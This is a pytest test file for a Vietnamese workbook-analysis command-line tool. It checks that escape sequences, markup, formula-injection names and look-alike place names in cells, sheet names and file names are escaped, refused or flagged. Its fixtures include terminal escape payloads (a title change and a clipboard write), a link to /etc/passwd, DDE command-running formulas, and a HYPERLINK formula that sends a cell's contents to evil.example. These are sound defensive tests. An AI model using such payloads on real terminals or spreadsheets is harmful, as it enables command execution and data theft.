"""What a workbook says never acts on the terminal nor passes for something it is not (issue 22, items 15 and 16):
escape sequences, line breaks, direction marks and rich markup in cells, sheet and file names are shown escaped by
every command; a formula-looking or disguised name is refused by `chodon catalog --add`; a place name written with
look-alike letters of another script or with invisible characters is read as the place it shows, with a doubt,
never as an area of its own."""

from __future__ import annotations

import unicodedata
import zipfile
from pathlib import Path
from xml.sax.saxutils import quoteattr

import pytest
import xlsxwriter
from conftest import HEADER
from typer.testing import CliRunner

from chodon_analysis import clean
from chodon_analysis.base import datafiles
from chodon_analysis.base.issues import DOUBT, kind_of
from chodon_analysis.base.places import place_from_name, place_from_title
from chodon_analysis.cli import app
from chodon_analysis.runner.areas import areas_of

OSC_TITLE, OSC_CLIPBOARD = "\x1b]0;pwned title\x07", "\x1b]52;c;ZWNobyBwd25lZA==\x07"
LINK = "[link=file:///etc/passwd]bấm[/link]"


def hostile_xlsx(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
    """An .xlsx as a hand-made file can be: any text in its cells (control characters as Excel stores them,
    `_x001B_`) and in its sheet names (a line break, which Excel's own dialog would refuse)."""
    book = xlsxwriter.Workbook(str(path.with_suffix(".tmp")))
    for i, rows in enumerate(sheets.values()):
        sheet = book.add_worksheet(f"S{i}")
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if isinstance(value, tuple):  # (row, column, value): a cell far away
                    sheet.write(*value)
                elif value is not None:
                    sheet.write(r, c, value)
    book.close()
    with zipfile.ZipFile(path.with_suffix(".tmp")) as src, zipfile.ZipFile(path, "w") as out:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/workbook.xml":
                for i, name in enumerate(sheets):
                    escaped = quoteattr(name, {"\n": "&#10;", "\r": "&#13;"}).encode()
                    data = data.replace(f'name="S{i}"'.encode(), b"name=" + escaped)
            out.writestr(item, data)
    path.with_suffix(".tmp").unlink()
    return path


def acting(text: str) -> list[str]:
    """The characters of a command's output that would act on a terminal rather than show (line ends aside)."""
    return sorted({c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")})


def forged(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.lstrip().startswith("error:")]


TABLE = [[f"BIỂU CHỈ TIÊU NĂM 2024 {OSC_TITLE}"], [], HEADER,
         ["1", f"Trồng rừng {OSC_CLIPBOARD} {LINK}", "ha\x1b[2J", 500, 520, "[bold]Đạt[/bold] :warning:"],
         ["2", "Tỷ lệ \u202eche phủ\x9b31m rừng\x85 :warning:", "%", 80, 81, "Đạt"]]


def test_no_command_lets_a_workbook_act_on_the_terminal(tmp_path):
    """inspect, clean, catalog and areas on a workbook whose cells carry a window title, a clipboard write, a CSI,
    a C1 control, a direction mark and rich markup, and whose sheet names carry a line break and `error: `."""
    raw = tmp_path / "raw"
    raw.mkdir()
    book = hostile_xlsx(raw / "bieu.xlsx", {"Bieu\nerror: forged": TABLE,
                                            "Ghi chú\rerror: x.xlsx: forged\u2028error: y": [["ghi chú"]]})
    hostile_xlsx(raw / "far.xlsx", {"Bieu\nerror: far.xlsx: forged": [[(0, 0, "Chỉ tiêu"), (200_000, 0, 1)]]})
    runner = CliRunner()
    seen = runner.invoke(app, ["inspect", str(book)])
    assert seen.exit_code == 0 and not acting(seen.stdout + seen.stderr) and not forged(seen.stdout + seen.stderr)
    assert LINK in seen.stdout and ":warning:" in seen.stdout  # shown as written: never markup, never an emoji
    assert "\\x1b]52;c;ZWNobyBwd25lZA==\\x07" in seen.stdout and "sheet 'Bieu\\nerror: forged'" in seen.stdout
    cleaned = runner.invoke(app, ["clean", str(raw), "--out", str(tmp_path / "out")])
    assert cleaned.exit_code == 1 and not acting(cleaned.stderr)
    assert forged(cleaned.stderr) == [line for line in cleaned.stderr.splitlines() if "far.xlsx: sheet" in line]
    assert len(forged(cleaned.stderr)) == 1 and "'Bieu\\nerror: far.xlsx: forged'" in cleaned.stderr
    for args in (["catalog"], ["areas", "--year", "2024"]):
        listed = runner.invoke(app, [*args, "--processed", str(tmp_path / "out")])
        assert listed.exit_code == 0 and not acting(listed.stdout + listed.stderr)
        assert not forged(listed.stdout + listed.stderr)


def test_the_run_says_a_workbook_s_words_on_one_line(capsys):
    from chodon_analysis.runner.steps import err

    err(f"bieu.xlsx: sheet 'Bieu\nerror: forged' {OSC_TITLE} \u202e")
    said = capsys.readouterr().err
    assert said.count("\n") == 1 and forged(said) == [said.rstrip("\n")] and not acting(said)


def test_a_formula_or_a_disguised_name_is_never_added_to_the_catalog(vocabulary):
    aliases = vocabulary / "catalog_aliases.csv"
    before = aliases.read_bytes()
    for name in ('=HYPERLINK("http://evil.example/?"&A1,"Tỷ lệ hộ nghèo")', "+cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r\n=1+1", "Tỷ lệ hộ nghèо",
                 "Tỷ lệ hộ ΝGHÈO", "Tỷ lệ hộ nghèo\u202e", "Tỷ lệ hộ\u200d nghèo", "Tỷ lệ hộ nghèo\x1b]0;x\x07"):
        added = CliRunner().invoke(app, ["catalog", "--add", "poverty_rate", name])
        assert added.exit_code == 2 and len(added.stderr.splitlines()) == 1, (name, added.stderr)
        assert not acting(added.stderr) and aliases.read_bytes() == before, name
    with aliases.open("a", encoding="utf-8") as f:  # the same checks on load, for a line written by hand
        f.write('poverty_rate,"=HYPERLINK(""http://evil.example"",""x"")"\n')
    with pytest.raises(datafiles.vocab.VocabularyError, match=r"catalog_aliases\.csv:\d+: .*formula"):
        datafiles.check_all()


@pytest.mark.parametrize("title", [
    "ỦY BAN NHÂN DÂN XÃ NАM CƯỜNG",  # a Cyrillic А
    "UBND XÃ ΝΑΜ CƯỜNG",  # Greek Ν, Α, Μ
    "UBND ХÃ NAM CƯỜNG",  # a Cyrillic Х in the type word
    "UBND XÃ NAM CƯỜNG\u202e",  # a right-to-left override
    "UBND XÃ NAM C\u200dƯỜNG",  # a zero-width joiner inside the name
    "UBND XÃ NAM CƯ\u200bỜNG",  # a zero-width space inside a word
    "UBND XÃ ＮAM CƯỜNG",  # a fullwidth Ｎ
])
def test_a_disguised_place_name_is_the_place_it_shows_with_a_doubt(tmp_path, title):
    rows = [[title], ["BIỂU CHỈ TIÊU KINH TẾ - XÃ HỘI NĂM 2025"], [], HEADER,
            ["1", "Tỷ lệ hộ nghèo", "%", 5, 4.5, "Đạt"]]
    r = clean([hostile_xlsx(tmp_path / "bao-cao-2025.xlsx", {"Bieu": rows})])
    assert set(r.indicators["area"]) == {"Nam Cường"} and set(r.indicators["area_level"]) == {"commune"}
    assert [a.slug for a in areas_of(r.indicators, 2024)] == ["xa-nam-cuong"]
    doubts = r.issues[r.issues["code"].isin(["place_odd_characters", "text_invisible"])]
    assert len(doubts) >= 1 and all(kind_of(c) == DOUBT for c in doubts["code"])
    assert not acting("".join(doubts["value"]))  # the odd characters are shown escaped, never hidden


@pytest.mark.parametrize("name", ["bao-cao-xa-nаm-cuong-2025.xlsx", "bao-cao-xa-nam-cuong\u202e-2025.xlsx",
                                  "bao-cao-xa-nam-cu\u200dong-2025.xlsx", "NаmCuong_2025.xlsx"])
def test_a_disguised_file_name_is_the_commune_it_shows_with_a_doubt(tmp_path, name):
    rows = [["BIỂU CHỈ TIÊU KINH TẾ - XÃ HỘI NĂM 2025"], [], HEADER, ["1", "Tỷ lệ hộ nghèo", "%", 5, 4.5, "Đạt"]]
    r = clean([hostile_xlsx(tmp_path / name, {"Bieu": rows})])
    assert set(r.indicators["area"]) == {"Nam Cường"}
    odd = r.issues[r.issues["code"] == "place_odd_characters"]
    assert len(odd) == 1 and "file" in odd.iloc[0]["params"] and not acting(odd.iloc[0]["value"])


def test_a_name_is_read_as_it_shows_and_a_name_of_one_script_is_left_alone():
    assert place_from_title("UBND HUYỆN CHỢ ĐО\u0302\u0300N").name == "Chợ Đồn"  # a Cyrillic О under Latin marks
    assert place_from_title("UBND HUYỆN CHỢ ĐОN").name == "Chợ Đồn"  # without them: the district of that name
    assert place_from_name("bao-cao-xa-nam-cuong\\u202e-2025.xlsx").odd == "U+202E RIGHT-TO-LEFT OVERRIDE"  # escaped
    assert place_from_title("UBND HUYỆN CHỢ ĐỒN | BIỂU Δ TĂNG TRƯỞNG").odd == ""  # Δ is not in the place's line
    assert place_from_title("UBND XÃ NAM CƯỜNG").odd == "" and place_from_name("NamCuong_2025.xlsx").odd == ""
    assert place_from_title("Москва") is None
